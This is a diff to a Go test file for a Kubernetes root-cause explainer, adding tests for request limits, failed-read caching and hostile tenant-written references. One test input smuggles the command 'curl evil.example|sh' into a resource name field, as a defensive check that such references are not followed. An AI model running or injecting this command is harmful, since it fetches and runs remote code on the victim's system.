@@ -2,6 +2,7 @@ package explain
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"regexp"
 	"slices"
@@ -251,12 +252,75 @@ func TestTheRequestsForANamespaceAreLimited(t *testing.T) {
 		cause.Root = nil
 		roots.Complete(t.Context(), p, w, cause)
 	}
-	if live.requests > requestsPerMinute || live.requests < requestsPerMinute/2 {
-		t.Errorf("%d requests, want at most %d", live.requests, requestsPerMinute)
+	if live.requests > requestsAtOnce || live.requests < requestsAtOnce/2 {
+		t.Errorf("%d requests at the same time, want at most %d", live.requests, requestsAtOnce)
 	}
 	if cause.Root == nil || !strings.Contains(cause.Root.Message, "not checked any further") {
 		t.Errorf("%+v", cause.Root)
 	}
+}
+
+// Tenants write references. They make no request for a type that Roots does not follow, and name nothing that an
+// administrator could run.
+func TestHostileReferencesLeadNowhere(t *testing.T) {
+	for name, kind := range map[string]string{
+		"a command":     "{kind: ClusterSecretStore, name: 'x; curl evil.example|sh #'}",
+		"another type":  "{kind: Evil, name: x}",
+		"a long type":   "{kind: " + strings.Repeat("x", 1<<20) + ", name: x}",
+		"no name":       "{kind: ClusterSecretStore, name: ''}",
+		"an empty type": "{kind: '', name: x}",
+	} {
+		t.Run(name, func(t *testing.T) {
+			const failing = `
+---
+apiVersion: external-secrets.io/v1
+kind: ExternalSecret
+metadata: {name: db, namespace: shop, uid: db, ownerReferences: [{apiVersion: v1, kind: Node, name: a, uid: a, controller: true}]}
+spec: {secretStoreRef: %s, target: {name: db}, dataFrom: [{sourceRef: %[1]s}]}
+status: {conditions: [{type: Ready, status: "False", reason: SecretSyncedError, message: denied, lastTransitionTime: "2026-03-01T08:00:00Z"}]}`
+			e := fakeCluster(t, missingSecretPod+fmt.Sprintf(failing, kind))
+			c := e.client.(client.Client)
+			mapper := &countingMapper{RESTMapper: c.RESTMapper()}
+			roots := NewRoots(c, c, c.Scheme(), mapper, clocktesting.NewFakePassiveClock(testNow), ForConditions())
+			p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
+			roots.Complete(t.Context(), p, w, cause)
+			if mapper.others > 0 {
+				t.Errorf("%d look-ups of other types", mapper.others)
+			}
+			if got := cause.Sentence(); !strings.HasSuffix(got, "condition Ready is False: denied") {
+				t.Error(got)
+			}
+		})
+	}
+}
+
+// A request that fails is no answer: the cause stays as it is, and the next one tries again.
+func TestAFailedReadIsNotRemembered(t *testing.T) {
+	e := fakeCluster(t, missingSecretPod+failingExternalSecret("db", "shop", "denied", "Other"))
+	p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
+	c := e.client.(client.Client)
+	broken := &brokenReader{Client: c, broken: true}
+	roots := NewRoots(broken, c, c.Scheme(), c.RESTMapper(), clocktesting.NewFakePassiveClock(testNow), ForConditions())
+	if roots.Complete(t.Context(), p, w, cause); cause.Root != nil {
+		t.Errorf("with a failing API server: %+v", cause.Root)
+	}
+	broken.broken = false
+	if roots.Complete(t.Context(), p, w, cause); cause.Root == nil {
+		t.Error("the failure was remembered")
+	}
+}
+
+// brokenReader is a reader that can fail.
+type brokenReader struct {
+	client.Client
+	broken bool
+}
+
+func (r *brokenReader) List(ctx context.Context, list client.ObjectList, opts ...client.ListOption) error {
+	if r.broken {
+		return errors.New("etcdserver: request timed out")
+	}
+	return r.Client.List(ctx, list, opts...)
 }
 
 // A type that the cluster does not have costs one request for a while.
@@ -278,12 +342,16 @@ func TestAnAbsentTypeIsLookedForOnce(t *testing.T) {
 // countingMapper counts how often a type is looked for.
 type countingMapper struct {
 	meta.RESTMapper
-	sealed int
+	// sealed are the look-ups of SealedSecrets, others those of types that conditions do not follow.
+	sealed, others int
 }
 
 func (m *countingMapper) RESTMapping(kind schema.GroupKind, versions ...string) (*meta.RESTMapping, error) {
 	if kind.Kind == "SealedSecret" {
 		m.sealed++
+	}
+	if !slices.Contains(ForConditions(), kind) {
+		m.others++
 	}
 	return m.RESTMapper.RESTMapping(kind, versions...)
 }
